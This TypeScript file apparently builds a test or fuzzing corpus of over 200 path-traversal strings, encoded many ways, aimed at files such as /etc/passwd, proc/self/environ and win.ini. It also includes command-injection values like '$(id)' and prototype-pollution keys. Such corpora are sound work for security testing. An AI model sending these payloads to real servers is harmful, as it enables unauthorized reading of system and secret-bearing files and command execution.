/** Ways to write "go up and read /etc/passwd" in one path segment. */
const TARGETS = ['etc/passwd', 'windows/win.ini', 'proc/self/environ', 'jobmanager.log'];
const UPS = [
  '../', '..%2f', '..%2F', '%2e%2e/', '%2e%2e%2f', '%2E%2E%2F', '..%5c', '..\\', '%2e%2e%5c', '%252e%252e%252f', '..%252f', '..%255c', '.%2e/', '%2e./', '....//',
  '..;/', '..%00/', '..%0d%0a/', '%c0%ae%c0%ae%c0%af', '%c0%ae%c0%ae/', '%e0%80%ae%e0%80%ae/', '..%c0%af', '..%ef%bc%8f', '%uff0e%uff0e%u2215', '..%u2216', '/', '//', '%2f',
  '%5c', 'C:%5c', 'file:%2f%2f%2f', '~/', '%7e%2f', '.%00./', '..%09/', '..%20/', '%20../', '..%3f/', '..%23/', '\u2025/', '%e2%80%a5/', '%f0%80%80%af',
];
const TAILS = ['', '%00', '%00.log', '.log', '%20', '%0a'];

/** Over 200 segments, all different. */
export const traversals: readonly string[] = [
  ...new Set([
    ...UPS.flatMap((up) => TARGETS.slice(0, 2).flatMap((target) => [1, 3].map((times) => up.repeat(times) + target.replaceAll('/', up.includes('%5c') ? '%5c' : '%2f')))),
    ...TAILS.flatMap((tail) => TARGETS.map((target) => `..%2f..%2f${target.replaceAll('/', '%2f')}${tail}`)),
    ...['..', '.', '%2e', '%2e%2e', '%00', '%', '%zz', '%e0%a4%a', '*', '%2a', '$(id)', '%24%28id%29', '`id`', '__proto__', 'constructor', 'x'.repeat(5000), '%ff', '-', '_'],
  ]),
];
